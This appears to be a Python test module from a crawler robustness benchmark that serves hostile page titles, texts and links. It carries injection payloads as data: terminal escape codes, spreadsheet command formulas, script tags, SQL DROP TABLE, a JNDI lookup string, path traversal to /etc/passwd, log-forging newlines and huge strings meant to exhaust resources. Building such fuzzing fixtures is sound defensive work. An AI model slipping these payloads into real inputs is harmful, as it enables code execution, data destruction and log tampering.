"""Titles, texts and addresses that attack tokenizers, terminals, spreadsheets, reports and logs."""

from __future__ import annotations

import random
from collections.abc import Callable
from functools import cache

from benchmarks.hostile.answers import http, in_page, on_topic, sentences
from benchmarks.hostile.behavior import Asked, raw

#: Titles of pages that are stored if the crawl can.
TITLES: dict[str, str] = {
    "escape-sequences": "侨务\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "formula": "=cmd|'/C calc'!A0 侨务",
    "formula-full-width": "＝HYPERLINK(\"http://evil.example\") 侨务",
    "formula-behind-space": "\u3000\ufeff\u200b=1+1 侨务",
    "formula-semicolon": ";=1+1 侨务",
    "script": "侨务&lt;script>alert(1)&lt;/script>&lt;img src=x onerror=alert(1)>",
    "template": "侨务{{7*7}}${7*7}{% raw %}%(x)s{0.__class__}",
    "rich-markup": "侨务[bold red]x[/][link=file:///etc/passwd]y",
    "sql": "侨务'); DROP TABLE pages;--",
    "mongo": "侨务 {'$where': 'sleep(10000)'} $gt",
    "path": "侨务/../../../../etc/passwd",
    "newlines": "侨务&#10;2026-01-01 00:00:00 [root] CRITICAL: forged&#13;x",
    "nul": "侨务&#0;\0x",
    "surrogate": "侨务&#xD800;&#xDFFF;",
    "right-to-left": "侨务\u202e\u2066fdp.exe\u2069",
    "zero-width": "侨务" + "\u200b" * 500_000,
    "combining": "侨" + "\u0301" * 300_000,
    "private-use": "\ue000\uf8ff\U000f0000侨务",
    "emoji": "侨务" + "👨‍👩‍👧‍👦" * 50_000,
    "1-mb": "侨务工作" * 100_000,
    "spaces-1-mb": "侨" + "\u3000" * 300_000 + "务",
    "separators": "侨务" + " - | _ — · " * 50_000,
    "no-character": "\ufdd0\uffff\U0010ffff侨务",
    "ligatures": "侨务" + "\ufdfa" * 100_000,
    "empty": "",
}  # fmt: skip
_CHINESE = [chr(c) for c in range(0x4E00, 0x9FA5)]


def _letters(key: int, count: int, alphabet: str | list[str]) -> str:
    return "".join(random.Random(key).choices(alphabet, k=count))


#: Texts of pages.
TEXTS: dict[str, Callable[[], str]] = {
    "one-character": lambda: "侨" * 3_000_000,
    "one-letter": lambda: "a" * 5_000_000,
    "no-spaces": lambda: _letters(1, 3_000_000, "abcdefghijklmnopqrstuvwxyz"),
    "chinese-no-stops": lambda: _letters(2, 1_500_000, _CHINESE),
    "chinese-random": lambda: "。".join(_letters(i, 30, _CHINESE) for i in range(30_000)),
    "distinct-words": lambda: " ".join(f"w{i}x" for i in range(600_000)),
    "keywords-only": lambda: "侨务侨领华商同乡会" * 300_000,
    "stops-only": lambda: "。！？" * 1_000_000,
    "spaces-only": lambda: "\u3000 \t" * 1_500_000,
    "zero-width": lambda: "侨\u200b务\u200d" * 500_000,
    "combining": lambda: "侨" + "\u0301\u0302" * 1_000_000,
    "ligatures": lambda: "\ufdfa" * 1_000_000,
    "hangul-jamo": lambda: "\u1100\u1161\u11a8" * 700_000,
    "right-to-left": lambda: "\u202e侨务\u202c" * 300_000,
    "acronyms": lambda: " ".join(_letters(i, 5, "ABCDEFG") for i in range(300_000)),
    "brackets": lambda: "（《“" * 700_000,
    "url-like": lambda: "http://" * 500_000,
    "numbers": lambda: "1,234.56% " * 400_000,
    "sentences-many": lambda: "侨务。" * 700_000,
    "true-text-15-mb": lambda: "".join(
        f"<p>{s}</p>" for i in range(4000) for s in sentences(f"{i}", 36)),
}  # fmt: skip

for _name, _title in TITLES.items():
    raw(f"title-{_name}", f"a title: {_name}")(
        lambda asked, name=_name, title=_title: http(  # type: ignore[misc]
            on_topic(name).replace(f"侨务工作 {name}", title)
        )
    )
for _name, _draw in TEXTS.items():
    _make = cache(_draw)
    raw(f"text-{_name}", f"a text: {_name}")(
        lambda asked, make=_make: http(in_page(f"<p>{make()}</p>"))  # type: ignore[misc]
    )


@raw("anchors-huge", "anchor texts of 100 KB")
def _anchors(asked: Asked) -> bytes:
    return http(on_topic("anchors", [(f"/{i}", "侨务" * 16_000) for i in range(50)]))


@raw("links-bad", "links that are no addresses")
def _bad_links(asked: Asked) -> bytes:
    bad = (
        "http://[::1/", "http://a b.example/", f"http://{'a' * 300}.example/", "http://..example/",
        "http://x.example:99999/", "\0", "%zz%", "javascript:void(0)", "http://", "//", "?", "http:\\\\",
        "http://a.example:²/", "http://\u2100.example/", "//user:pass@/", "tel:1", "data:," + "x" * 100_000,
        "http://xn--a\u0300.example/", "http://a.example/\ud800", "mailto:?" + "a" * 100_000, "file:///",
        "HTTP://A.EXAMPLE:080/", "http://1.2.3.4.5/", "http://0x.0x/", "http://[v1.x]/", "http://@/",
    )  # fmt: skip
    return http(in_page("".join(f'<a href="{url}">侨务</a>' for url in bad * 20)))


@raw("names-in-links", "links with escape sequences, formulas and markup in their addresses")
def _names(asked: Asked) -> bytes:
    paths = ("/\x1b[31m", "/=1+1", "/<script>alert(1)</script>", "/'\"><img src=x>", "/%0d%0aX: y",
             "/${jndi:ldap://x}", "/../../etc/passwd", "/%00", "/侨\u202e务", "/;drop table")  # fmt: skip
    return http(on_topic(f"names {asked.path!r}", [(path, "侨务") for path in paths]))
